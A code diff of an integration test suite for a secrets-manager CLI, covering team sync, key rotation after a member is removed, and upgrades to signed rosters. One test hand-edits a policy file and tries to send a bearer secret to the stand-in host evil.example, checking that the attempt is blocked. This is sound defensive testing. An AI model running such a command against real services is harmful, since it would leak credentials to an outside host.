@@ -3,6 +3,7 @@ import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { buildServer, openDatabase } from '@agentsecrets/server';
+import { createWorkspaceKey, encryptSecret, sealWorkspaceKey } from '@agentsecrets/sync';
 import { findLeaks, startUpstream } from '@agentsecrets/testkit';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { freshMachine, run } from './helpers.js';
@@ -149,15 +150,13 @@ describe('team sync through the CLI', () => {
           stored.body,
           JSON.parse(stored.body).serial,
         ]);
-        // …and so is a hand edit of the copy on bob's machine.
+        // …and the accepted policy lives in bob's vault: the widened copy in a hand-edited sync.json is not read.
         const syncFile = join(bob.env.AGENTSECRETS_HOME!, 'sync.json');
         const state = JSON.parse(await readFile(syncFile, 'utf8'));
-        for (const p of Object.values(state.policies) as { allowlist: string[] }[])
-          p.allowlist.push('evil.example');
-        await writeFile(syncFile, JSON.stringify(state));
-        const edited = await run(call, as(bob));
+        await writeFile(syncFile, JSON.stringify({ ...state, policies: { any: widened } }));
+        const edited = await run(['call', '--url', 'https://evil.example/x', '--bearer', 'API_KEY'], as(bob));
         expect(edited.code).toBe(3);
-        expect(edited.stderr).toContain('POLICY_SIGNATURE_INVALID');
+        expect(edited.stderr).toContain('DOMAIN_NOT_ALLOWED');
       } finally {
         await upstream.close();
       }
@@ -172,30 +171,81 @@ describe('team sync through the CLI', () => {
       expect((await run(['workspace', 'demote', 'frank@example.com'], as(laptop))).code).toBe(2);
       expect((await run(['workspace', 'promote', 'bob@example.com'], as(laptop))).code).toBe(0);
       expect((await run(['workspace', 'demote', 'bob@example.com'], as(laptop))).code).toBe(0);
+      // Removing a member signs a roster without them that asks for a new key, and rotates at once: every secret
+      // re-encrypted under a key granted only to the members left.
       expect((await run(['workspace', 'remove', 'bob@example.com'], as(laptop))).stdout).toContain(
-        'rotation is pending',
+        'the workspace key was rotated',
       );
       expect(JSON.parse((await run(['workspace', 'list', '--json'], as(laptop))).stdout)[0]).toMatchObject({
-        rotationPending: true,
+        rotationPending: false,
+        verified: true,
       });
       const status = JSON.parse((await run(['status', '--json'], as(laptop))).stdout);
       expect(status.team).toMatchObject({
         email: 'frank@example.com',
         workspace: 'team',
-        rotationPending: true,
-      });
-      expect((await run(['status'], as(laptop))).stdout).toContain('key rotation pending');
-      expect((await run(['secrets', 'pull'], as(bob))).code).toBe(4);
-      // The next sync by an admin rotates the key: every secret re-encrypted under a key bob never had.
-      expect((await run(['secrets', 'diff'], as(laptop))).stdout).toContain('in sync');
-      expect(JSON.parse((await run(['workspace', 'list', '--json'], as(laptop))).stdout)[0]).toMatchObject({
         rotationPending: false,
       });
+      expect((await run(['secrets', 'pull'], as(bob))).code).toBe(4);
+      expect((await run(['secrets', 'diff'], as(laptop))).stdout).toContain('in sync');
       const rotated = await db.query<{ key_version: number }>('SELECT key_version FROM workspaces');
       expect(rotated.map((r) => Number(r.key_version))).toEqual([2]);
       expect((await run(['secrets', 'pull'], as(laptop))).stdout).toContain('already up to date');
     } finally {
       await rm(bob.root, { recursive: true, force: true });
     }
+  });
+  it('a workspace made before signed rosters is refused until an admin upgrades it', async () => {
+    const on = (m: typeof laptop) => ({ env: m.env, cwd: m.project });
+    // What an older server and client left behind: a key sealed to its admin with no grant and no roster.
+    const frank = (
+      await db.query<{ id: string; box_public_key: string }>(
+        'SELECT id, box_public_key FROM users WHERE email = $1',
+        ['frank@example.com'],
+      )
+    )[0]!;
+    const ws = 'ws_legacy_00000000000001';
+    const key = createWorkspaceKey();
+    await db.query(
+      'INSERT INTO workspaces (id, name, key_version, rotation_pending, created_at) VALUES ($1, $2, 1, 0, $3)',
+      [ws, 'legacy', Date.now()],
+    );
+    await db.query(
+      'INSERT INTO members (workspace_id, user_id, role, sealed_key, key_version) VALUES ($1, $2, $3, $4, 1)',
+      [
+        ws,
+        frank.id,
+        'admin',
+        await sealWorkspaceKey(key, frank.box_public_key, { workspaceId: ws, keyVersion: 1 }),
+      ],
+    );
+    const coords = {
+      workspaceId: ws,
+      projectId: 'app',
+      environment: 'default',
+      name: 'OLD_KEY',
+      version: 1,
+      keyVersion: 1,
+    };
+    await db.query(
+      `INSERT INTO secrets (workspace_id, project_id, environment, name, version, ciphertext, key_version, author, created_at)
+       VALUES ($1, 'app', 'default', 'OLD_KEY', 1, $2, 1, $3, $4)`,
+      [ws, encryptSecret(key, `${CANARY}-old`, coords), frank.id, Date.now()],
+    );
+    const refused = await run(['workspace', 'switch', 'legacy'], on(laptop));
+    expect(refused.code).toBe(3);
+    expect(refused.stderr).toContain('ROSTER_INVALID');
+    expect(refused.stderr).toContain('workspace upgrade legacy');
+    const upgraded = await run(['workspace', 'upgrade', 'legacy'], on(laptop));
+    expect(upgraded.code, upgraded.stderr).toBe(0);
+    const [row] = await db.query<{ key_version: number }>(
+      'SELECT key_version FROM workspaces WHERE id = $1',
+      [ws],
+    );
+    expect(Number(row!.key_version)).toBe(2);
+    // Selected now, its secret re-encrypted under a key granted by a signed roster.
+    expect((await run(['secrets', 'pull'], on(laptop))).stdout).toContain('pulled OLD_KEY');
+    const stored = JSON.stringify(await db.query('SELECT * FROM secrets WHERE workspace_id = $1', [ws]));
+    expect(findLeaks(stored, CANARY)).toEqual([]);
   });
 });
